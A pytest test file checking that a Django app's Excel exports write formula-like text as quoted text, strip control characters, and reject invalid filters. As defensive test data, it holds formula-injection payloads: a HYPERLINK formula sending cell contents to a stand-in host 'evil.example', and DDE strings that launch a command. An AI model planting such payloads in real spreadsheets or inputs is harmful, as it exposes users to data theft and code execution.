"""Every Excel export goes through core.excel (issue 9, item 7): text that starts like a formula
is written as text, a control character in stored text does not break the export, and a filter
that is not valid exports nothing. Through the real views, read back with openpyxl."""

import zipfile
from datetime import datetime
from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from aftersales.customers.models import Customer
from aftersales.reports.choices import ReportKind
from aftersales.reports.tests.helpers import produced
from aftersales.reports.tests.scenario import Scenario
from aftersales.service.models import ServiceRequest
from aftersales.service.tests.factories import Cast, new_request

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "address": "+cmd|' /C calc'!A0",
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
}
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def cast():
    return Cast()


def book_of(response):
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == XLSX
    return load_workbook(BytesIO(response.content))


def no_formula_in(response) -> bool:
    with zipfile.ZipFile(BytesIO(response.content)) as archive:
        return not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name)
                       for name in archive.namelist() if name.startswith("xl/worksheets/"))


def rows_by_number(sheet) -> dict:
    header = [c.value for c in sheet[1]]
    return {row[0].value: dict(zip(header, row, strict=False)) for row in sheet.iter_rows(min_row=2)}


def test_request_export_writes_formula_like_text_as_text(client, cast):
    sr = new_request(cast, description=HOSTILE["description"])
    Customer.objects.filter(pk=sr.customer_id).update(name=HOSTILE["name"],
                                                      address=HOSTILE["address"])
    ServiceRequest.objects.filter(pk=sr.pk).update(estimated_charge=Decimal("-12.50"))
    client.force_login(cast.agent)
    response = client.get(reverse("service:export"), HTTP_ACCEPT_LANGUAGE="en")
    book = book_of(response)
    assert no_formula_in(response)
    row = rows_by_number(book.active)[sr.number]
    for header, text in (("Customer", HOSTILE["name"]), ("Address", HOSTILE["address"]),
                         ("What is wrong", HOSTILE["description"])):
        cell = row[header]
        assert cell.data_type == "s" and cell.value == text, header
        assert cell.quotePrefix  # Excel keeps it text when the cell is edited, too
    assert row["Rough charge"].data_type == "n" and row["Rough charge"].value == -12.5
    assert isinstance(row["Reported at"].value, datetime)


def test_request_export_survives_control_characters_in_stored_text(client, cast):
    sr = new_request(cast, description="热水器\x07不点火\x0b漏水\n第二行")
    Customer.objects.filter(pk=sr.customer_id).update(name="王\x01建国\x1b")
    client.force_login(cast.agent)
    row = rows_by_number(book_of(client.get(reverse("service:export"),
                                            HTTP_ACCEPT_LANGUAGE="en")).active)[sr.number]
    assert row["What is wrong"].value == "热水器不点火漏水\n第二行"
    assert row["Customer"].value == "王建国"


@pytest.mark.parametrize("query", [{"status": "bogus"}, {"reported_after": "yesterday"},
                                   {"reported_before": "2026-01-01T00:00:00-21:49"},
                                   {"category": "Z"}])
def test_an_invalid_filter_exports_nothing(client, cast, query):
    new_request(cast)
    client.force_login(cast.agent)
    response = client.get(reverse("service:export"), query, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "Nothing was exported" in response.content.decode()


def test_a_valid_filter_exports_only_its_rows(client, cast):
    kept = new_request(cast, internal=True)
    other = new_request(cast)
    client.force_login(cast.agent)
    rows = rows_by_number(book_of(client.get(reverse("service:export"),
                                             {"category": kept.category})).active)
    assert kept.number in rows and other.number not in rows


def test_report_download_writes_formula_like_names_as_text():
    scenario = Scenario()
    name = '=HYPERLINK("http://evil.example","王")'
    scenario.t1.last_name, scenario.t1.first_name = name, "\x07强"
    scenario.t1.save(update_fields=["last_name", "first_name"])
    report = produced(ReportKind.DAILY_HOURS, scenario)
    from django.test import Client

    client = Client()
    client.force_login(scenario.supervisor)
    response = client.get(reverse("reports:excel", args=[report.pk]))
    book = book_of(response)
    assert no_formula_in(response)
    names = [row[0] for row in book.worksheets[0].iter_rows(min_row=2)]
    hostile = [cell for cell in names if str(cell.value).startswith("=")]
    assert len(hostile) == 1 and hostile[0].data_type == "s" and hostile[0].quotePrefix
    assert "HYPERLINK" in hostile[0].value and "\x07" not in hostile[0].value


def test_no_module_writes_a_workbook_but_the_one_writer():
    """A later export must go through core.excel too: nothing else creates a workbook."""
    from pathlib import Path

    import aftersales

    root = Path(aftersales.__file__).parent
    writers = sorted(str(path.relative_to(root)) for path in root.rglob("*.py")
                     if "tests" not in path.parts
                     and ("Workbook(" in (text := path.read_text(encoding="utf-8"))
                          or "import Workbook" in text or "xlsxwriter" in text))
    assert writers == ["core/excel.py"]
